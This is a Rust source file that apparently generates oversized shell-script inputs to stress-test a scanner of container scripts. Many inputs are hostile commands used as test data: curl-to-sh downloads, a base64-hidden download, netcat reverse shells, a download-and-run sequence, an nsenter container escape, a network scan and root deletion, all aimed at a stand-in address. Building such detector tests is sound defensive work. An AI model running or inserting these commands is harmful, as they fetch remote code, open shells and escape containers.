//! Scripts of a container.

use super::{Shape, fill};

/// A variable that holds what 64 substitutions wrote: everything that uses it reads all of them.
fn reader() -> String {
    "v+=$(echo);".repeat(64)
}

/// A script that opens a list of commands in a list of commands, thirty deep, around `inner`.
fn nested(open: &str, inner: &str, close: &str) -> String {
    format!("{}{inner}{}", open.repeat(30), close.repeat(30))
}

pub(super) const SCRIPTS: [Shape; 79] = [
    Shape { name: "one word", make: |size| fill(size, "", &["a"]) },
    Shape { name: "many commands", make: |size| fill(size, "", &["echo a;"]) },
    Shape { name: "many words", make: |size| fill(size, "echo", &[" a"]) },
    Shape { name: "many empty words", make: |size| fill(size, "nc", &[" ''"]) },
    Shape { name: "one pipeline", make: |size| fill(size, "curl http://192.0.2.1/x", &["|sh"]) },
    Shape { name: "open substitutions", make: |size| fill(size, "", &["$("]) },
    Shape { name: "open quotes in substitutions", make: |size| fill(size, "", &["\"$("]) },
    Shape { name: "open parameters", make: |size| fill(size, "", &["${a:-"]) },
    Shape { name: "open braces", make: |size| fill(size, "", &["{a,"]) },
    Shape { name: "open groups", make: |size| fill(size, "", &["{ ("]) },
    Shape { name: "open keywords", make: |size| fill(size, "", &["if "]) },
    Shape { name: "open functions", make: |size| fill(size, "", &["f(){ "]) },
    Shape { name: "open here-documents", make: |size| fill(size, "", &["<<E "]) },
    Shape { name: "backquotes", make: |size| fill(size, "", &["`\\"]) },
    Shape { name: "assignments that grow", make: |size| fill(size, "a=aaaaaaaa;", &["a=$a$a;"]) },
    Shape {
        name: "variables that are used",
        make: |size| fill(size, "a=http://192.0.2.1/x;", &["curl $a|sh;"]),
    },
    Shape {
        name: "scripts in scripts",
        make: |size| fill(size, "", &["sh -c 'eval \"curl http://192.0.2.1/x|sh\"';"]),
    },
    Shape {
        name: "decoded scripts",
        make: |size| fill(size, "", &["echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL3h8c2g=|base64 -d|sh;"]),
    },
    Shape {
        name: "files that are run",
        make: |size| fill(size, "", &["echo 'nc -e sh 192.0.2.1 1'>/tmp/a;chmod +x /tmp/a;/tmp/a;"]),
    },
    Shape {
        name: "code in code",
        make: |size| fill(size, "", &["python3 -c 'import os;os.system(\"python3 -c 1\")';"]),
    },
    Shape {
        name: "encoded text",
        make: |size| fill(size, "echo ", &["QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo"]),
    },
    Shape { name: "escapes", make: |size| fill(size, "echo -e '", &["\\x41\\101\\u0041"]) },
    Shape { name: "secrets", make: |size| fill(size, "nc -e /bin/sh 192.0.2.1 1", &[" --password=hunter2"]) },
    Shape { name: "addresses", make: |size| fill(size, "nc -e /bin/sh", &[" http://u:p@192.0.2.1:1/x"]) },
    // Lists of commands.
    Shape { name: "blank groups", make: |size| fill(size, "", &["( a )|", "{ a;}|"]) },
    Shape {
        name: "groups that read",
        make: |size| reader() + &nested("{ ", &fill(size, "", &["a b c d e f g h i j;"]), "} >$v;"),
    },
    Shape { name: "groups in pipelines", make: |size| nested("a|{ ", &fill(size, "", &["sh;"]), "}|cat;") },
    Shape { name: "keywords", make: |size| fill(size, "", &["if a;then b;else c;fi;"]) },
    Shape { name: "case patterns", make: |size| fill(size, "case a in ", &["a|b) c;;"]) },
    Shape { name: "arithmetic", make: |size| fill(size, "", &["((1));", "$(( (", "(( ("]) },
    Shape { name: "functions", make: |size| fill(size, "", &["f#(){ curl http://192.0.2.1/x;};", "f#|sh;"]) },
    Shape { name: "functions in functions", make: |size| fill(size, "", &["f#(){ f|f#;};f(){ f#;};"]) },
    Shape {
        name: "functions that run their arguments",
        make: |size| fill(size, "f(){ \"$@\";};", &["f f f sh -c a;"]),
    },
    Shape { name: "aliases of commands", make: |size| fill(size, "alias a='x x x x x x x x';", &["a;"]) },
    Shape { name: "many aliases", make: |size| fill(size, "", &["alias a#='sh -c b';", "a#;"]) },
    Shape { name: "process substitutions", make: |size| fill(size, "", &["bash <(curl x) >(sh);"]) },
    Shape { name: "nested process substitutions", make: |size| fill(size, "", &["cat <(", "cat >("]) },
    // Redirections.
    Shape { name: "redirections", make: |size| fill(size, "a", &[" >a"]) },
    Shape { name: "redirections of many lines", make: |size| fill(size, "find", &[" -exec a \\;", " >a"]) },
    Shape { name: "here-documents", make: |size| fill(size, "", &["cat <<E|sh\n$a\nE\n"]) },
    Shape {
        name: "here-documents in here-documents",
        make: |size| {
            let levels = 0..30;
            let open: String =
                levels.clone().map(|level| ["cat <<E", &level.to_string(), "\n$("].concat()).collect();
            let close: String =
                levels.rev().map(|level| ["\nE", &level.to_string(), "\n)"].concat()).collect();
            open + &fill(size, "", &["a\n"]) + &close
        },
    },
    Shape { name: "here-strings", make: |size| fill(size, "", &["sh <<<'curl http://192.0.2.1/x|sh';"]) },
    // Variables.
    Shape {
        name: "many variables",
        make: |size| fill(size, "", &["a#=http://192.0.2.1/x;", "curl $a#|sh;"]),
    },
    Shape { name: "variables that read", make: |size| fill(size, &reader(), &["$v"]) },
    Shape { name: "variables that read much", make: |size| fill(size, &reader(), &["a#=$v$v;", "b#=$a#;"]) },
    Shape { name: "exports that read", make: |size| fill(size, &(reader() + "export $v"), &[" a#=b"]) },
    Shape { name: "positional parameters", make: |size| fill(size, &reader(), &["set -- $v a b c;"]) },
    Shape { name: "variables for scripts", make: |size| fill(size, "", &["a#=1;", "sh x;"]) },
    Shape { name: "variables for eval", make: |size| fill(size, "", &["a#=1;", "eval a;"]) },
    Shape {
        name: "variables that are split",
        make: |size| fill(size, "a='x x x x x x x x';", &["echo $a;"]),
    },
    Shape { name: "other separators", make: |size| fill(size, "IFS=abcdefghijklmno;b=xaxbxcxd;", &["$b "]) },
    Shape { name: "replacements", make: |size| fill(size, "a=xxxxxxxxxxxxxxxx;", &["${a//x/yy}"]) },
    Shape { name: "parameters in parameters", make: |size| fill(size, "", &["${a:-${b:-c}}"]) },
    Shape { name: "substitutions of substitutions", make: |size| fill(size, "", &["a=$(b $a);"]) },
    Shape { name: "brace lists", make: |size| fill(size, "", &["{a,b}{c,d}{e,f} "]) },
    Shape { name: "ansi quotes", make: |size| fill(size, "", &["$'\\x41'", "''\\a"]) },
    // Programs that run programs.
    Shape { name: "wrappers", make: |size| fill(size, "", &["env nohup "]) },
    Shape { name: "wrappers behind assignments", make: |size| fill(size, "", &["A=b ", "chroot a "]) },
    Shape { name: "wrappers that assign", make: |size| fill(size, "", &["env A=b chroot a "]) },
    Shape { name: "lines of find", make: |size| fill(size, "find", &[" -exec sh -c b \\;"]) },
    Shape {
        name: "lines of find behind assignments",
        make: |size| fill(size, "", &["A=b ", "find -exec a "]),
    },
    Shape { name: "xargs", make: |size| fill(size, "", &["echo a b|xargs sh -c 'nc -e sh 192.0.2.1 1';"]) },
    Shape { name: "filters", make: |size| fill(size, "", &["echo aaaa|tr a-z b-z|sed s/a/b/g|rev|sh;"]) },
    // What flows where.
    Shape {
        name: "a text for many interpreters",
        make: |size| {
            format!("{}|{{ {}}}", fill(size / 2, "echo ", &["a"]), fill(size / 2, "", &[":|python3;"]))
        },
    },
    Shape {
        name: "a text for many files",
        make: |size| {
            format!("{}|{{ {}}}", fill(size / 2, "echo ", &["a"]), fill(size / 2, "", &[":|cat>f;"]))
        },
    },
    Shape {
        name: "downloads and runs",
        make: |size| {
            fill(size, "", &["curl -o /tmp/f# http://192.0.2.1/x;", "chmod +x /tmp/f#;", "/tmp/f#;"])
        },
    },
    Shape { name: "copies", make: |size| fill(size, "", &["echo sh>f#;", "cp f# g#;", "sh g#;"]) },
    Shape {
        name: "a long working directory",
        make: |size| fill(size, &format!("cd /{};rm", "a".repeat(4000)), &[" a"]),
    },
    Shape { name: "a long target", make: |size| fill(size, "cp", &[" a"]) + " /" + &"a".repeat(4000) },
    Shape {
        name: "many findings",
        make: |size| {
            fill(
                size,
                "",
                &["curl http://192.0.2.1/x|sh;nc -e sh 192.0.2.1 1;nsenter -t 1 -m sh;nmap 10.0.0.0/8;"],
            )
        },
    },
    Shape { name: "removed files", make: |size| fill(size, "rm", &[" /", " -a"]) },
    Shape { name: "links and options", make: |size| fill(size, "ln", &[" -a", " a"]) + " /var/log" },
    Shape { name: "copied files", make: |size| fill(size, "cp", &[" /a"]) + " /b" },
    // Code.
    Shape { name: "calls in code", make: |size| fill(size, "python3 -c '", &["os.system("]) },
    Shape { name: "names in code", make: |size| fill(size, "python3 -c '", &["exec socket "]) },
    Shape { name: "assignments in code", make: |size| fill(size, "python3 -c '", &["a#=\"b\"\n"]) },
    Shape { name: "joined literals in code", make: |size| fill(size, "python3 -c '", &["\"a\"+"]) },
    Shape { name: "backticks in code", make: |size| fill(size, "perl -e '", &["`a`;", "qx/a/;"]) },
    Shape { name: "pipes of awk", make: |size| fill(size, "awk '", &["print \"a\"|\"sh\";"]) },
];
